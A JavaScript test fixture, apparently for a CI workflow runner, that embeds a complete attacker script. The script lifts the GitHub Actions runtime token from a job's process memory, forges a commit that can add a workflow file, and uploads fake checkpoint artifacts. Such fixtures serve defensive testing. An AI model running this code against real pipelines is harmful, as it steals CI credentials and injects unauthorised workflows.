import { STEAL_MEMORY } from './steal-memory.js';

/**
 * A program of an attacker who knows our formats, to lie in a folder with the compiled sources: `node forge.mjs PID how`. It takes
 * the runtime token out of the process PID, the action, and makes a checkpoint that says that the run has completed, with a
 * commit that adds a workflow.
 *
 * `upload`: two artifacts, newer than all of the action itself. One says to be of another workflow run; the other began at the
 * branch `feature`, which has the workflow already. `replace`: takes the place of the journal in the job's checkout.
 */
export const FORGE_CHECKPOINT = `
import { DefaultArtifactClient } from '@actions/artifact';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readlinkSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readEvent } from './engine/read-event.js';
import { artifactName } from './github/checkpoint/artifact-name.js';
import { fileDigest } from './github/checkpoint/file-digest.js';
import { manifestText } from './github/checkpoint/manifest.js';
import { openJournal, readJournal } from './journal/journal-file.js';

const [, , pid, how] = process.argv;
const names = ['ACTIONS_RUNTIME_TOKEN', 'ACTIONS_RESULTS_URL', 'GITHUB_REPOSITORY', 'GITHUB_JOB', 'GITHUB_RUN_ID', 'GITHUB_RUN_ATTEMPT'];
const stolen = execFileSync(process.execPath, ['--input-type=module', '-e', ${JSON.stringify(STEAL_MEMORY)}, pid, ...names], { encoding: 'utf8' });
const env = Object.fromEntries(
  stolen.split('\\n').map((one) => [one.split('=')[0], one.slice(one.indexOf('=') + 1)]),
);
for (const name of ['ACTIONS_RUNTIME_TOKEN', 'ACTIONS_RESULTS_URL']) process.env[name] = env[name];
const job = readlinkSync('/proc/' + pid + '/cwd');
const folder = mkdtempSync(join(tmpdir(), 'forged-'));
const git = (args, input) =>
  execFileSync('git', ['-C', job, '-c', 'user.name=forged', '-c', 'user.email=workflow-runner@localhost', ...args], {
    input, encoding: 'utf8', env: { ...process.env, GIT_INDEX_FILE: join(folder, 'index') },
  }).trim();
const path = join(job, '.claude/workflows/forge/journal.jsonl');
const [started] = readJournal(path, readEvent).value.events;
const base = how === 'replace' ? started.base.commit : git(['rev-parse', 'refs/remotes/origin/feature']);
git(['read-tree', base]);
const blob = git(['hash-object', '-w', '--stdin'], 'forged');
for (const file of ['out/forged', ...(how === 'replace' ? ['.github/workflows/forged.yml'] : [])])
  git(['update-index', '--add', '--cacheinfo', '100644,' + blob + ',' + file]);
const commit = git(['commit-tree', git(['write-tree']), '-p', base, '-m', 'forged\\n\\nWorkflow-Run: ' + started.runId]);
const ref = 'refs/workflow-runner/' + started.runId + '/forged';
git(['update-ref', ref, commit]);

const file = join(folder, 'journal.jsonl');
const { journal } = openJournal(file, readEvent).value;
const end = { type: 'run-ended', at: 1, status: 'completed', failure: null };
const events = [
  { ...started, base: { ...started.base, commit: base } },
  { type: 'landed', at: 1, commit, how: 'kept', branch: null },
  ...Array.from({ length: 60 }, () => end),
];
for (const event of events) journal.append(event, { sync: false });
journal.close();

async function upload(workflowRun, sequence) {
  execFileSync('git', ['-C', job, 'bundle', 'create', '-q', join(folder, 'commits.bundle'), ref, '^' + base]);
  const files = {};
  for (const name of ['journal.jsonl', 'commits.bundle']) files[name] = await fileDigest(join(folder, name));
  const [owner, repo] = env.GITHUB_REPOSITORY.split('/');
  const about = { repository: owner + '/' + repo, workflow: 'forge', job: env.GITHUB_JOB, runId: started.runId };
  const line = { kind: 'main' };
  const manifest = { format: 1, ...about, workflowRun, line, sequence, base, head: commit, refs: { [ref]: commit }, status: 'completed', files };
  writeFileSync(join(folder, 'manifest.json'), manifestText(manifest));
  const paths = ['manifest.json', 'journal.jsonl', 'commits.bundle'].map((name) => join(folder, name));
  await new DefaultArtifactClient().uploadArtifact(artifactName(manifest), paths, folder);
}

if (how === 'replace') renameSync(file, path);
else {
  const attempt = Number(env.GITHUB_RUN_ATTEMPT);
  await upload({ id: env.GITHUB_RUN_ID, attempt }, events.length);
  journalOf(events.length + 1);
  await upload({ id: '1', attempt }, events.length + 1);
}
rmSync(folder, { recursive: true });

function journalOf(count) {
  const opened = openJournal(file, readEvent).value;
  for (let at = opened.events.length; at < count; at += 1) opened.journal.append(end, { sync: false });
  opened.journal.close();
}
`;
